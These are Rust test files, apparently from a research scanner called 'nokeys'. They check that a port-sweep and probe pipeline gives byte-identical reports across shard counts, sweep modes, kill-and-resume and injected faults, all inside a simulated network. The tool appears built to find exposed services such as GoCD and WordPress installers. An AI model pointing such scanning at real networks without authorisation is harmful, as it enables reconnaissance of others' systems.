                assert_eq!(lease, 1);
                assert_eq!(segment.start_batch, covered, "segments arrive in order");
                covered = segment.end_batch;
            }
            WorkerReply::Heartbeat { lease, cursor } => {
                assert_eq!(lease, 1);
                assert_eq!(cursor, covered, "heartbeat cursor tracks confirmed work");
            }
            WorkerReply::Released { lease, end } => {
                assert_eq!(lease, 1);
                break end;
            }
            other => panic!("unexpected worker reply {other:?}"),
        }
    };
    assert_eq!(covered, released_at, "released after the last segment");
    assert!(
        (2..=4).contains(&released_at),
        "revoke must clamp the lease to [cursor, 4]: stopped at {released_at}"
    );

    writeln!(stdin, r#"{{"op":"shutdown"}}"#).expect("write shutdown");
    drop(stdin);
    let status = child.wait().expect("worker exits");
    assert!(status.success(), "worker exit status: {status}");
}
