//! The sharded scan orchestrator: splitting the batch sequence across
//! K worker tasks with work-stealing must be invisible in the output —
//! the `ScanReport` and telemetry snapshot are byte-identical to the
//! single-pipeline run at any K, any parallelism, faults on or off,
//! and across a kill/resume boundary that *changes* K (the shard count
//! is deliberately not part of the checkpoint's config fingerprint).
//!
//! The reducer itself is exercised separately: segments scanned
//! independently and merged in random permutations (proptest) must
//! reconstruct the baseline bytes, and a deliberately stalled shard
//! must have the tail of its range completed by thieves without
//! changing a single byte.

use nokeys::http::{BlockSweepResult, Client, Endpoint, ProbeOutcome, Scheme, Transport};
use nokeys::netsim::{Cidr, KillSwitch, KillableTransport, SimTransport, Universe, UniverseConfig};
use nokeys::scanner::shard::{existing_shard_files, merge_segments, scan_segment};
use nokeys::scanner::{
    Pipeline, PipelineConfig, PortScanner, ScanReport, Telemetry, TelemetrySnapshot,
};
use proptest::prelude::*;
use std::collections::HashSet;
use std::path::PathBuf;
use std::sync::{Arc, Mutex, OnceLock};

fn checkpoint_path(tag: &str) -> PathBuf {
    std::env::temp_dir().join(format!("nokeys-shard-{tag}-{}.json", std::process::id()))
}

fn config(
    space: Cidr,
    parallelism: usize,
    shards: usize,
    blocks_per_batch: usize,
    telemetry: &Telemetry,
    checkpoint: Option<&PathBuf>,
) -> PipelineConfig {
    let mut builder = PipelineConfig::builder(vec![space])
        .parallelism(parallelism)
        .shards(shards)
        .blocks_per_batch(blocks_per_batch)
        .retries(3)
        .telemetry(telemetry.clone());
    if let Some(path) = checkpoint {
        builder = builder.checkpoint_path(path.clone()).checkpoint_every(2);
    }
    builder.build()
}

fn transport(universe: &Arc<Universe>, fault_rate: f64) -> SimTransport {
    let t = SimTransport::new(Arc::clone(universe));
    if fault_rate > 0.0 {
        t.with_fault_injection(fault_rate)
    } else {
        t
    }
}

/// One uninterrupted run at the given shard count.
async fn run_once(
    universe: &Arc<Universe>,
    space: Cidr,
    parallelism: usize,
    shards: usize,
    blocks_per_batch: usize,
    fault_rate: f64,
) -> (ScanReport, TelemetrySnapshot) {
    let telemetry = Telemetry::new();
    let pipeline = Pipeline::new(config(
        space,
        parallelism,
        shards,
        blocks_per_batch,
        &telemetry,
        None,
    ));
    let client = Client::new(transport(universe, fault_rate));
    let report = pipeline.run(&client).await.expect("pipeline failed");
    (report, telemetry.snapshot())
}

fn report_json(report: &ScanReport) -> String {
    serde_json::to_string(report).expect("report serializes")
}

/// The tentpole guarantee: K, parallelism and fault injection are all
/// invisible in the output bytes.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn sharded_run_is_byte_identical_at_any_shard_count() {
    let universe_config = UniverseConfig::tiny(42);
    let universe = Arc::new(Universe::generate(universe_config.clone()));
    for fault_rate in [0.0, 0.05] {
        // K = 1 takes the legacy single-pipeline path — the reference.
        let (baseline, baseline_snap) =
            run_once(&universe, universe_config.space, 8, 1, 16, fault_rate).await;
        for shards in [2usize, 4, 8] {
            for parallelism in [1usize, 8] {
                let (report, snap) = run_once(
                    &universe,
                    universe_config.space,
                    parallelism,
                    shards,
                    16,
                    fault_rate,
                )
                .await;
                assert_eq!(
                    report_json(&baseline),
                    report_json(&report),
                    "report diverged (K={shards}, p{parallelism}, faults {fault_rate})"
                );
                assert_eq!(
                    baseline_snap.to_json(),
                    snap.to_json(),
                    "telemetry diverged (K={shards}, p{parallelism}, faults {fault_rate})"
                );
            }
        }
    }
}

/// Stage-I probe work is partitioned exactly: per-worker probe counts
/// sum to the single-pipeline probe count, and per-worker batch counts
/// sum to the batch sequence length — nothing probed twice, nothing
/// skipped.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn shard_probe_work_partitions_exactly() {
    let universe_config = UniverseConfig::tiny(42);
    let universe = Arc::new(Universe::generate(universe_config.clone()));
    let (baseline, _) = run_once(&universe, universe_config.space, 8, 1, 8, 0.0).await;

    let telemetry = Telemetry::new();
    let pipeline = Pipeline::new(config(universe_config.space, 8, 4, 8, &telemetry, None));
    let client = Client::new(transport(&universe, 0.0));
    let (report, stats) = pipeline
        .run_with_shard_stats(&client)
        .await
        .expect("sharded run failed");

    assert_eq!(stats.shards, 4);
    assert_eq!(report_json(&baseline), report_json(&report));
    // 20.0.0.0/16 is 256 /24 blocks; 8 blocks per batch = 32 batches.
    assert_eq!(stats.batches_by_worker.iter().sum::<u64>(), 32);
    assert_eq!(
        stats.probes_by_worker.iter().sum::<u64>(),
        baseline.probes_sent,
        "per-worker probe counts must sum to the single-pipeline count"
    );
}

/// A transport that wedges the very first block of the shuffled sweep
/// order until every block of every *other* batch has been swept. The
/// stalled worker owns batches 0..8 and can finish none of them, so the
/// run can only complete if idle workers steal the tail of its range —
/// which is exactly what the work-stealing queue is for.
#[derive(Clone)]
struct StallTransport {
    inner: SimTransport,
    /// The block whose sweep stalls (first block of batch 0).
    target: Cidr,
    /// Block bases that must be swept before the stall releases: every
    /// block of batches 1.. (batch 0's own later blocks sit *behind*
    /// the stalled sweep, so requiring them would deadlock).
    required: Arc<Mutex<HashSet<u32>>>,
    released: Arc<tokio::sync::Notify>,
}

impl Transport for StallTransport {
    type Conn = <SimTransport as Transport>::Conn;

    async fn probe(&self, ep: Endpoint) -> ProbeOutcome {
        self.inner.probe(ep).await
    }

    async fn connect(&self, ep: Endpoint, scheme: Scheme) -> nokeys::http::Result<Self::Conn> {
        self.inner.connect(ep, scheme).await
    }

    async fn sweep_block(&self, block: Cidr, ports: &[u16]) -> BlockSweepResult {
        if block == self.target {
            loop {
                let released = self.released.notified();
                if self.required.lock().expect("stall lock").is_empty() {
                    break;
                }
                released.await;
            }
        }
        let result = self.inner.sweep_block(block, ports).await;
        if block != self.target {
            let mut required = self.required.lock().expect("stall lock");
            required.remove(&block.base);
            if required.is_empty() {
                self.released.notify_waiters();
            }
        }
        result
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn stalled_shard_tail_is_stolen_and_output_unchanged() {
    let universe_config = UniverseConfig::tiny(42);
    let universe = Arc::new(Universe::generate(universe_config.clone()));
    let (baseline, baseline_snap) = run_once(&universe, universe_config.space, 8, 1, 8, 0.0).await;

    let telemetry = Telemetry::new();
    let config = config(universe_config.space, 8, 4, 8, &telemetry, None);
    // The sweep order is the seeded shuffle, identical in every engine.
    let shuffle = PortScanner::new(config.portscan.clone()).shuffled_blocks();
    assert_eq!(shuffle.len(), 256);
    let stalled = StallTransport {
        inner: transport(&universe, 0.0),
        target: shuffle[0],
        required: Arc::new(Mutex::new(shuffle[8..].iter().map(|b| b.base).collect())),
        released: Arc::new(tokio::sync::Notify::new()),
    };
    let client = Client::new(stalled);
    let pipeline = Pipeline::new(config);
    let (report, stats) = tokio::time::timeout(
        std::time::Duration::from_secs(120),
        pipeline.run_with_shard_stats(&client),
    )
    .await
    .expect("a stalled shard must not stall the scan: its batches were never stolen")
    .expect("sharded run failed");

    assert!(
        stats.steals > 0,
        "completing around the stall requires stealing the stalled worker's tail"
    );
    assert_eq!(stats.batches_by_worker.iter().sum::<u64>(), 32);
    assert_eq!(
        report_json(&baseline),
        report_json(&report),
        "work-stealing changed the report"
    );
    assert_eq!(
        baseline_snap.to_json(),
        telemetry.snapshot().to_json(),
        "work-stealing changed the telemetry"
    );
}

/// Kill a checkpointed sharded scan mid-run (every network operation
/// hangs after a budget, the pipeline task is aborted) and resume it at
/// a *different* shard count — the config fingerprint excludes K, so
/// the per-shard checkpoint files written by the dead run must replay
/// under the new K to the uninterrupted baseline bytes.
async fn run_killed_then_resumed(
    universe: &Arc<Universe>,
    space: Cidr,
    shards_first: usize,
    shards_resume: usize,
    fault_rate: f64,
    budget: u64,
    path: &PathBuf,
) -> (ScanReport, TelemetrySnapshot) {
    let _ = std::fs::remove_file(path);
    for stale in existing_shard_files(path) {
        let _ = std::fs::remove_file(stale);
    }

    let switch = KillSwitch::after(budget);
    let doomed = KillableTransport::new(transport(universe, fault_rate), switch.clone());
    let telemetry = Telemetry::new();
    let pipeline = Pipeline::new(config(space, 8, shards_first, 8, &telemetry, Some(path)));
    let client = Client::new(doomed);
    let mut task = tokio::spawn(async move { pipeline.run(&client).await });
    tokio::select! {
        _ = switch.tripped() => {
            task.abort();
            let _ = task.await;
        }
        result = &mut task => {
            result.expect("pipeline task").expect("pipeline failed");
        }
    }

    let telemetry = Telemetry::new();
    let pipeline = Pipeline::new(config(space, 8, shards_resume, 8, &telemetry, Some(path)));
    let client = Client::new(transport(universe, fault_rate));
    let report = if path.exists() || !existing_shard_files(path).is_empty() {
        pipeline.resume(&client, path).await.expect("resume failed")
    } else {
        // Killed before any checkpoint write: nothing to resume.
        pipeline.run(&client).await.expect("fresh run failed")
    };
    let snapshot = telemetry.snapshot();
    let _ = std::fs::remove_file(path);
    for stale in existing_shard_files(path) {
        let _ = std::fs::remove_file(stale);
    }
    (report, snapshot)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn killed_sharded_scan_resumes_at_a_different_shard_count() {
    let universe_config = UniverseConfig::tiny(42);
    let universe = Arc::new(Universe::generate(universe_config.clone()));
    let (baseline, baseline_snap) = run_once(&universe, universe_config.space, 8, 1, 8, 0.0).await;

    // Budgets spanning "died before any write" through "died deep into
    // the scan"; resume under more shards (4 → 8) and under the legacy
    // engine's count (8 → 1).
    for (shards_first, shards_resume, budget) in
        [(4, 8, 1u64), (4, 8, 2_500), (4, 8, 12_000), (8, 1, 2_500)]
    {
        let path = checkpoint_path(&format!("kill-k{shards_first}-k{shards_resume}-b{budget}"));
        let (resumed, resumed_snap) = run_killed_then_resumed(
            &universe,
            universe_config.space,
            shards_first,
            shards_resume,
            0.0,
            budget,
            &path,
        )
        .await;
        assert_eq!(
            report_json(&baseline),
            report_json(&resumed),
            "resumed report diverged (K {shards_first} -> {shards_resume}, budget {budget})"
        );
        assert_eq!(
            baseline_snap.to_json(),
            resumed_snap.to_json(),
            "resumed telemetry diverged (K {shards_first} -> {shards_resume}, budget {budget})"
        );
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn killed_sharded_scan_survives_fault_injection() {
    let universe_config = UniverseConfig::tiny(7);
    let universe = Arc::new(Universe::generate(universe_config.clone()));
    let (baseline, baseline_snap) = run_once(&universe, universe_config.space, 8, 1, 8, 0.05).await;

    for budget in [2_500u64, 12_000] {
        let path = checkpoint_path(&format!("faulty-kill-b{budget}"));
        let (resumed, resumed_snap) =
            run_killed_then_resumed(&universe, universe_config.space, 4, 8, 0.05, budget, &path)
                .await;
        assert_eq!(
            report_json(&baseline),
            report_json(&resumed),
            "fault-injected resumed report diverged (budget {budget})"
        );
        assert_eq!(
            baseline_snap.to_json(),
            resumed_snap.to_json(),
            "fault-injected resumed telemetry diverged (budget {budget})"
        );
    }
}

/// Fixtures for the reducer proptest: the universe and the K = 1
/// baseline bytes, computed once (each proptest case re-enters from a
/// plain closure, so these cannot live in the async test body).
fn proptest_universe() -> &'static Arc<Universe> {
    static UNIVERSE: OnceLock<Arc<Universe>> = OnceLock::new();
    UNIVERSE.get_or_init(|| Arc::new(Universe::generate(UniverseConfig::tiny(42))))
}

fn proptest_baseline(rt: &tokio::runtime::Runtime) -> &'static (String, String) {
    static BASELINE: OnceLock<(String, String)> = OnceLock::new();
    BASELINE.get_or_init(|| {
        let universe = proptest_universe();
        let space = UniverseConfig::tiny(42).space;
        let (report, snap) = rt.block_on(run_once(universe, space, 8, 1, 16, 0.0));
        (report_json(&report), snap.to_json())
    })
}

fn proptest_runtime() -> tokio::runtime::Runtime {
    tokio::runtime::Builder::new_multi_thread()
        .worker_threads(4)
        .enable_all()
        .build()
        .expect("tokio runtime")
}

proptest! {
    #![proptest_config(ProptestConfig {
        cases: 6,
        // Scanning segments is deterministic, so shrinking re-runs buy
        // nothing but wall-clock.
        max_shrink_iters: 4,
        ..ProptestConfig::default()
    })]

    /// The reducer is order-independent: any partition of the batch
    /// sequence, scanned segment by segment and merged in any
    /// permutation, reconstructs the single-pipeline bytes.
    #[test]
    fn segment_merge_is_order_independent(
        cuts in proptest::collection::btree_set(1u64..16, 0..5),
        perm_seed in 1u64..u64::MAX,
    ) {
        let rt = proptest_runtime();
        let (baseline_report, baseline_snap) = proptest_baseline(&rt).clone();
        let universe = proptest_universe();
        let space = UniverseConfig::tiny(42).space;
        // 20.0.0.0/16 at 16 blocks per batch = 16 batches; the cut set
        // induces the partition.
        let mut bounds: Vec<u64> = std::iter::once(0)
            .chain(cuts.iter().copied())
            .chain(std::iter::once(16))
            .collect();
        bounds.dedup();

        let mut segments = Vec::new();
        let telemetry = Telemetry::new();
        let config = config(space, 8, 1, 16, &telemetry, None);
        let client = Client::new(transport(universe, 0.0));
        for window in bounds.windows(2) {
            segments.push(rt.block_on(scan_segment(&config, &client, window[0], window[1])));
        }

        // Fisher–Yates with a seeded xorshift: a random merge order.
        let mut state = perm_seed;
        for i in (1..segments.len()).rev() {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            segments.swap(i, (state % (i as u64 + 1)) as usize);
        }

        let merged_into = Telemetry::new();
        let report = merge_segments(&merged_into, segments).expect("contiguous segments merge");
        prop_assert_eq!(report_json(&report), baseline_report);
        prop_assert_eq!(merged_into.snapshot().to_json(), baseline_snap);
    }
}
