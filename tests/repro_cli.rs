//! End-to-end tests of the `repro` and `nokeys-scan` binaries themselves
//! (argument parsing, artifact output, exit codes).

use std::process::Command;

fn repro() -> Command {
    Command::new(env!("CARGO_BIN_EXE_repro"))
}

fn nokeys_scan() -> Command {
    Command::new(env!("CARGO_BIN_EXE_nokeys-scan"))
}

#[test]
fn list_prints_all_experiment_ids() {
    let out = repro().arg("list").output().expect("binary runs");
    assert!(out.status.success());
    let stdout = String::from_utf8_lossy(&out.stdout);
    for id in ["table1", "table10", "fig2", "ct", "cases", "race"] {
        assert!(stdout.lines().any(|l| l == id), "{id} missing from list");
    }
}

#[test]
fn unknown_id_exits_nonzero() {
    let out = repro()
        .args(["definitely-not-an-id", "--quick"])
        .output()
        .expect("runs");
    assert!(!out.status.success());
}

#[test]
fn out_dir_receives_artifacts() {
    let dir = std::env::temp_dir().join(format!("nokeys-repro-test-{}", std::process::id()));
    let out = repro()
        .args(["table1", "table10", "--quick", "--out"])
        .arg(&dir)
        .output()
        .expect("runs");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let t1 = std::fs::read_to_string(dir.join("table1.txt")).expect("table1 artifact");
    assert!(t1.contains("GoCD"));
    let t10 = std::fs::read_to_string(dir.join("table10.txt")).expect("table10 artifact");
    assert!(t10.contains("/wp-admin/install.php"));
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn repro_rejects_malformed_flag_values() {
    // Every malformed value must exit with a usage error, not silently
    // fall back to a default.
    let cases: &[&[&str]] = &[
        &["table1", "--quick", "--retries", "abc"],
        &["table1", "--quick", "--seed", "x"],
        &["table1", "--quick", "--fault-rate", "7"],
        &["table1", "--quick", "--fault-rate", "-0.5"],
        &["table1", "--quick", "--fault-rate", "nan"],
        &["table1", "--quick", "--checkpoint-every", "0"],
        &["table1", "--quick", "--checkpoint-every", "three"],
        &["table1", "--quick", "--resume"], // --resume without --checkpoint
    ];
    for case in cases {
        let out = repro().args(*case).output().expect("runs");
        assert!(
            !out.status.success(),
            "expected usage error for {case:?}, got success"
        );
    }
}

#[test]
fn nokeys_scan_rejects_malformed_flag_values() {
    let cases: &[&[&str]] = &[
        &["--target", "not-a-cidr"],
        &["--target", "192.0.2.0/28", "--ports", "80,abc"],
        &["--target", "192.0.2.0/28", "--ports", ""],
        &["--target", "192.0.2.0/28", "--retries", "abc"],
        &["--target", "192.0.2.0/28", "--fault-rate", "7"],
        &["--target", "192.0.2.0/28", "--fault-rate", "-1"],
        &["--target", "192.0.2.0/28", "--rate", "fast"],
        &["--target", "192.0.2.0/28", "--parallelism", "0"],
        &["--target", "192.0.2.0/28", "--fleet-shard", "1of4"],
        // the pre-rename spelling survives as a hidden alias with the
        // same strict K/N validation
        &["--target", "192.0.2.0/28", "--shard", "1of4"],
        &["--target", "192.0.2.0/28", "--checkpoint-every", "0"],
        &["--target", "192.0.2.0/28", "--resume"],
        &[], // no targets at all
    ];
    for case in cases {
        let out = nokeys_scan().args(*case).output().expect("runs");
        assert!(
            !out.status.success(),
            "expected usage error for {case:?}, got success"
        );
    }
}

#[test]
fn seed_changes_jittered_outputs_only() {
    let run = |seed: &str| {
        let out = repro()
            .args(["table3", "--quick", "--seed", seed])
            .output()
            .expect("runs");
        assert!(out.status.success());
        String::from_utf8_lossy(&out.stdout).into_owned()
    };
    let a = run("1");
    let b = run("1");
    // Strip the timing line, which varies run to run.
    let strip = |s: &str| {
        s.lines()
            .filter(|l| !l.contains("regenerated in"))
            .collect::<Vec<_>>()
            .join("\n")
    };
    assert_eq!(strip(&a), strip(&b), "same seed must reproduce identically");
}
