//! Dense/sparse stage-I equivalence: the sparse block-sweep fast path
//! (`Transport::sweep_block` over the universe's sorted endpoint index)
//! must produce a `ScanReport` and telemetry snapshot byte-identical to
//! the dense per-endpoint loop — at any parallelism, with or without
//! injected faults and retries, and across a kill/resume boundary even
//! when the two runs use *different* sweep modes (the checkpoint
//! fingerprint deliberately excludes `dense_sweep`).
//!
//! The payoff being bought is also asserted: a sparse sweep costs
//! O(populated endpoints) transport probes instead of O(address space),
//! while the op-budget accounting (`KillSwitch::used`) stays identical
//! to the dense loop.

use nokeys::http::{Client, Endpoint, ProbeOutcome, Transport};
use nokeys::netsim::{Cidr, KillSwitch, KillableTransport, SimTransport, Universe, UniverseConfig};
use nokeys::scanner::{Pipeline, PipelineConfig, ScanReport, Telemetry, TelemetrySnapshot};
use proptest::prelude::*;
use std::path::PathBuf;
use std::sync::Arc;

fn checkpoint_path(tag: &str) -> PathBuf {
    std::env::temp_dir().join(format!("nokeys-sparse-{tag}-{}.json", std::process::id()))
}

fn config(
    space: Cidr,
    parallelism: usize,
    dense: bool,
    telemetry: &Telemetry,
    checkpoint: Option<&PathBuf>,
) -> PipelineConfig {
    let mut builder = PipelineConfig::builder(vec![space])
        .parallelism(parallelism)
        .retries(3)
        .dense_sweep(dense)
        .telemetry(telemetry.clone());
    if let Some(path) = checkpoint {
        builder = builder.checkpoint_path(path.clone()).checkpoint_every(2);
    }
    builder.build()
}

fn transport(universe: &Arc<Universe>, fault_rate: f64) -> SimTransport {
    let t = SimTransport::new(Arc::clone(universe));
    if fault_rate > 0.0 {
        t.with_fault_injection(fault_rate)
    } else {
        t
    }
}

async fn run_plain(
    universe: &Arc<Universe>,
    space: Cidr,
    parallelism: usize,
    dense: bool,
    fault_rate: f64,
) -> (ScanReport, TelemetrySnapshot) {
    let telemetry = Telemetry::new();
    let pipeline = Pipeline::new(config(space, parallelism, dense, &telemetry, None));
    let client = Client::new(transport(universe, fault_rate));
    let report = pipeline.run(&client).await.expect("pipeline failed");
    (report, telemetry.snapshot())
}

fn report_json(report: &ScanReport) -> String {
    serde_json::to_string(report).expect("report serializes")
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn sparse_and_dense_sweeps_are_byte_identical() {
    let universe_config = UniverseConfig::tiny(42);
    let universe = Arc::new(Universe::generate(universe_config.clone()));
    for (parallelism, fault_rate) in [(1, 0.0), (8, 0.0), (1, 0.05), (8, 0.05)] {
        let (sparse, sparse_snap) = run_plain(
            &universe,
            universe_config.space,
            parallelism,
            false,
            fault_rate,
        )
        .await;
        let (dense, dense_snap) = run_plain(
            &universe,
            universe_config.space,
            parallelism,
            true,
            fault_rate,
        )
        .await;
        assert_eq!(
            report_json(&sparse),
            report_json(&dense),
            "sweep mode changed the report (p{parallelism}, faults {fault_rate})"
        );
        assert_eq!(
            sparse_snap.to_json(),
            dense_snap.to_json(),
            "sweep mode changed the telemetry (p{parallelism}, faults {fault_rate})"
        );
    }
}

/// Kill a checkpointed run in one sweep mode and resume it in the
/// other. `dense_sweep` is excluded from the checkpoint's config
/// fingerprint precisely because both modes report identical bytes, so
/// the spliced run must equal an uninterrupted one.
async fn kill_in_one_mode_resume_in_other(
    universe: &Arc<Universe>,
    space: Cidr,
    parallelism: usize,
    fault_rate: f64,
    budget: u64,
    killed_dense: bool,
    path: &PathBuf,
) -> (ScanReport, TelemetrySnapshot) {
    let _ = std::fs::remove_file(path);

    let switch = KillSwitch::after(budget);
    let doomed = KillableTransport::new(transport(universe, fault_rate), switch.clone());
    let telemetry = Telemetry::new();
    let pipeline = Pipeline::new(config(space, parallelism, killed_dense, &telemetry, Some(path)));
    let client = Client::new(doomed);
    let mut task = tokio::spawn(async move { pipeline.run(&client).await });
    tokio::select! {
        _ = switch.tripped() => {
            task.abort();
            let _ = task.await;
        }
        result = &mut task => {
            result.expect("pipeline task").expect("pipeline failed");
        }
    }

    let telemetry = Telemetry::new();
    let pipeline = Pipeline::new(config(
        space,
        parallelism,
        !killed_dense,
        &telemetry,
        Some(path),
    ));
    let client = Client::new(transport(universe, fault_rate));
    let report = if path.exists() {
        pipeline.resume(&client, path).await.expect("resume failed")
    } else {
        pipeline.run(&client).await.expect("fresh run failed")
    };
    let snapshot = telemetry.snapshot();
    let _ = std::fs::remove_file(path);
    (report, snapshot)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn resume_may_switch_sweep_modes() {
    let universe_config = UniverseConfig::tiny(42);
    let universe = Arc::new(Universe::generate(universe_config.clone()));
    let (baseline, baseline_snap) =
        run_plain(&universe, universe_config.space, 8, 0.05, false).await;

    for (parallelism, budget, killed_dense) in
        [(1, 2_000u64, false), (8, 3_000, true), (8, 15_000, false)]
    {
        let path = checkpoint_path(&format!("mode-switch-p{parallelism}-b{budget}"));
        let (resumed, resumed_snap) = kill_in_one_mode_resume_in_other(
            &universe,
            universe_config.space,
            parallelism,
            0.05,
            budget,
            killed_dense,
            &path,
        )
        .await;
        assert_eq!(
            report_json(&baseline),
            report_json(&resumed),
            "mode-switched resume diverged (p{parallelism}, budget {budget}, killed_dense {killed_dense})"
        );
        assert_eq!(
            baseline_snap.to_json(),
            resumed_snap.to_json(),
            "mode-switched resume telemetry diverged (p{parallelism}, budget {budget})"
        );
    }
}

/// The sparse sweep's cost is O(populated endpoints + blocks): the
/// transport evaluates one probe per populated (address, port) pair,
/// never one per address. The dense loop pays for the whole space.
/// Meanwhile the killswitch op accounting is charged identically in
/// both modes, so checkpoint budgets mean the same thing everywhere.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn sparse_probe_cost_is_linear_in_population() {
    let universe_config = UniverseConfig::tiny(42);
    let universe = Arc::new(Universe::generate(universe_config.clone()));
    let ports_per_host = 12u64;

    let sparse_switch = KillSwitch::after(u64::MAX);
    let sparse_t = transport(&universe, 0.0);
    let client = Client::new(KillableTransport::new(
        sparse_t.clone(),
        sparse_switch.clone(),
    ));
    let telemetry = Telemetry::new();
    let pipeline = Pipeline::new(config(universe_config.space, 1, false, &telemetry, None));
    let sparse_report = pipeline.run(&client).await.expect("sparse run failed");

    let dense_switch = KillSwitch::after(u64::MAX);
    let dense_t = transport(&universe, 0.0);
    let client = Client::new(KillableTransport::new(
        dense_t.clone(),
        dense_switch.clone(),
    ));
    let telemetry = Telemetry::new();
    let pipeline = Pipeline::new(config(universe_config.space, 1, true, &telemetry, None));
    let dense_report = pipeline.run(&client).await.expect("dense run failed");

    assert_eq!(report_json(&sparse_report), report_json(&dense_report));

    // Stage I transport probes: population × ports vs. space × ports.
    let populated = universe.host_count() as u64 * ports_per_host;
    let space = universe_config.space.size() * ports_per_host;
    assert_eq!(sparse_t.stats().probes(), populated);
    assert_eq!(dense_t.stats().probes(), space);
    assert!(populated * 50 < space, "tiny universe is genuinely sparse");

    // ...but the op budget was charged as if every probe were sent.
    assert_eq!(
        sparse_switch.used(),
        dense_switch.used(),
        "sweeps must charge the dense op count"
    );
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(24))]

    /// `SimTransport::sweep_block` agrees with a literal per-endpoint
    /// probe loop on arbitrary (block, ports, population, fault rate):
    /// same counters, same open set in the same order, and every probe
    /// the sparse path skipped is `Closed` when actually sent.
    #[test]
    fn sweep_counters_match_the_dense_loop(
        seed in 0u64..(1 << 48),
        third_octet in 0u32..256u32,
        fault in prop_oneof![Just(0.0f64), Just(0.25)],
        ports in proptest::sample::subsequence(vec![80u16, 443, 6443, 8080, 9000], 1..4),
    ) {
        let rt = tokio::runtime::Builder::new_current_thread()
            .build()
            .expect("runtime");
        rt.block_on(async {
            let universe = Arc::new(Universe::generate(UniverseConfig::tiny(seed)));
            let mk = || {
                let t = SimTransport::new(Arc::clone(&universe));
                if fault > 0.0 {
                    t.with_fault_injection(fault).with_fault_seed(seed ^ 0xabcd)
                } else {
                    t
                }
            };
            let block: Cidr = format!("20.0.{third_octet}.0/24").parse().expect("cidr");

            let sweep_t = mk();
            let sweep = sweep_t.sweep_block(block, &ports).await;

            // The reference loop runs on an identically seeded
            // transport: per-endpoint fault schedules are independent
            // of interleaving, so outcomes must agree probe for probe.
            let dense_t = mk();
            let mut reference = Vec::new();
            for ip in block.addresses() {
                for &port in &ports {
                    let ep = Endpoint::new(ip, port);
                    reference.push((ep, dense_t.probe(ep).await));
                }
            }

            prop_assert_eq!(sweep.addresses_probed, block.size());
            prop_assert_eq!(sweep.probes_sent(), reference.len() as u64);
            let sparse_open: Vec<Endpoint> = sweep.open().collect();
            let dense_open: Vec<Endpoint> = reference
                .iter()
                .filter(|(_, o)| *o == ProbeOutcome::Open)
                .map(|(ep, _)| *ep)
                .collect();
            prop_assert_eq!(sparse_open, dense_open, "open sets or order differ");

            let evaluated: std::collections::HashMap<Endpoint, ProbeOutcome> =
                sweep.probed.iter().copied().collect();
            for (ep, outcome) in &reference {
                match evaluated.get(ep) {
                    Some(sparse_outcome) => prop_assert_eq!(sparse_outcome, outcome, "{}", ep),
                    None => prop_assert_eq!(*outcome, ProbeOutcome::Closed, "{}", ep),
                }
            }
            prop_assert_eq!(
                sweep_t.stats().probes(),
                sweep.probed.len() as u64,
                "sparse transport evaluated exactly the populated endpoints"
            );
            Ok(())
        })?;
    }
}
