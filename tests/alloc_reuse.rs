//! Scratch-arena reuse is invisible in the output, and the `alloc.*`
//! telemetry that proves the zero-allocation hot path is itself
//! deterministic.
//!
//! The counters are pure functions of the deterministic probe stream
//! (body content, header shape) — never of buffer-capacity history or
//! worker scheduling — so a fixed-seed scan must produce byte-identical
//! reports *and* byte-identical `alloc.*` counters at any parallelism,
//! any shard count, faults on or off, and with arena reuse on or off.
//! `alloc.scratch.grow` counts views larger than the arena's fixed
//! reserve: zero grows means a warmed arena never reallocates, which is
//! the steady-state zero-heap-allocation claim in checkable form.

use nokeys::http::Client;
use nokeys::netsim::{SimTransport, Universe, UniverseConfig};
use nokeys::scanner::{Pipeline, PipelineConfig, ScanReport, Telemetry, TelemetrySnapshot};
use proptest::prelude::*;
use std::sync::{Arc, OnceLock};

/// One full pipeline run over the tiny universe with every knob the
/// alloc telemetry must be independent of.
async fn run(
    seed: u64,
    parallelism: usize,
    shards: usize,
    fault_rate: f64,
    scratch_reuse: bool,
) -> (ScanReport, TelemetrySnapshot) {
    let config = UniverseConfig::tiny(seed);
    let telemetry = Telemetry::new();
    let mut transport = SimTransport::new(Arc::new(Universe::generate(config.clone())));
    if fault_rate > 0.0 {
        transport = transport.with_fault_injection(fault_rate);
    }
    let pipeline = Pipeline::new(
        PipelineConfig::builder(vec![config.space])
            .parallelism(parallelism)
            .shards(shards)
            .retries(3)
            .scratch_reuse(scratch_reuse)
            .telemetry(telemetry.clone())
            .build(),
    );
    let client = Client::new(transport);
    let report = pipeline.run(&client).await.expect("pipeline failed");
    (report, telemetry.snapshot())
}

fn json(report: &ScanReport) -> String {
    serde_json::to_string(report).expect("report serializes")
}

/// The tentpole equivalence: across the full knob matrix — reuse
/// {on, off} × parallelism {1, 8} × shards {1, 4}, with and without
/// faults — report and telemetry (including the `alloc.*` family) are
/// byte-identical to the baseline run.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn alloc_telemetry_is_identical_across_the_knob_matrix() {
    for fault_rate in [0.0, 0.05] {
        let (baseline, baseline_snap) = run(42, 8, 1, fault_rate, true).await;
        assert!(
            baseline_snap.counter("alloc.views.lower")
                + baseline_snap.counter("alloc.views.squashed")
                > 0,
            "views must materialize for this test to mean anything"
        );
        for scratch_reuse in [true, false] {
            for parallelism in [1usize, 8] {
                for shards in [1usize, 4] {
                    let (report, snap) =
                        run(42, parallelism, shards, fault_rate, scratch_reuse).await;
                    let label = format!(
                        "reuse={scratch_reuse}, p{parallelism}, K={shards}, faults {fault_rate}"
                    );
                    assert_eq!(json(&baseline), json(&report), "report diverged ({label})");
                    assert_eq!(
                        baseline_snap.to_json(),
                        snap.to_json(),
                        "telemetry diverged ({label})"
                    );
                }
            }
        }
    }
}

/// The `alloc.*` family reconciles with the stage-II counters it
/// shadows, and the scan is allocation-clean in steady state: every
/// materialized view fits the arena's reserve (zero grows), so a
/// reused arena serves the whole scan without reallocating.
